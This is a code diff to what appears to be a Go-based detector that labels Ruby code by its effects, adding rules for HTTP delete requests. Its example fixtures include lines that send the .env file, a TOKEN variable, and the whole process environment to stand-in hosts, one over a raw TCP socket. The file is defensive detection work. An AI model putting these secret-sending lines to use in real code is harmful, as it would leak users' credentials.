@@ -137,7 +137,17 @@ var rubyRules = [...]rule{
 		`Net::HTTP.post_form(URI("https://x.example/f"), "k" => File.read(".env")) => read:send .env` + "\n" +
 		`HTTParty.post("https://hooks.example/x", body: "hi") => send:http https://hooks.example/x` + "\n" +
 		`Net::HTTP.start("x.example") { |h| h.post("/c", ENV["TOKEN"]) } => var:send TOKEN` + "\n" +
-		`Net::HTTP.get(URI("https://example.com")) !> send:http https://example.com` + "\n"},
+		`Net::HTTP.get(URI("https://example.com")) !> send:http https://example.com` + "\n" +
+		`HTTParty.post("https://api.example.com/projects/42/delete") => destroy:http https://api.example.com/projects/42/delete` + "\n" +
+		`HTTParty.post("https://api.example.com/projects?action=delete&id=4", body: "") => destroy:http https://api.example.com/projects?action=delete&id=4` + "\n" +
+		`HTTParty.post("https://api.example.com/search?q=delete", body: "") !> destroy:http https://api.example.com/search?q=delete` + "\n"},
+	{name: "Net.HTTP.Delete.new|URL#delete|HTTParty.delete|Faraday.delete|RestClient.delete|Excon.delete|HTTP.delete|Typhoeus.delete", do: aHTTPDelete, arg: -1, ex: `require "net/http"; req = Net::HTTP::Delete.new(URI("https://api.example.com/projects/42")) => destroy:http https://api.example.com/projects/42` + "\n" +
+		`Net::HTTP.start("api.example.com") { |h| h.delete("/projects/42") } => destroy:http api.example.com/projects/42` + "\n" +
+		`http = Net::HTTP.new("api.example.com", 443); http.delete("/projects/42") => destroy:http api.example.com/projects/42` + "\n" +
+		`HTTParty.delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`RestClient.delete(url) => destroy:http {url}` + "\n" +
+		`stub_request(:delete, "https://api.example.com/x") !> -` + "\n" +
+		`Net::HTTP.get(URI("https://api.example.com/projects/42/delete")) !> destroy:http https://api.example.com/projects/42/delete` + "\n"},
 	{name: "Net.HTTP.start|Net.HTTP.new", ret: rURL},
 	{name: "TCPSocket.new|TCPSocket.open|Socket.tcp", do: aConnect, opt: "raw", ret: rSocket, ex: `s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => send:raw 203.0.113.4` + "\n" +
 		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => env:send` + "\n" +
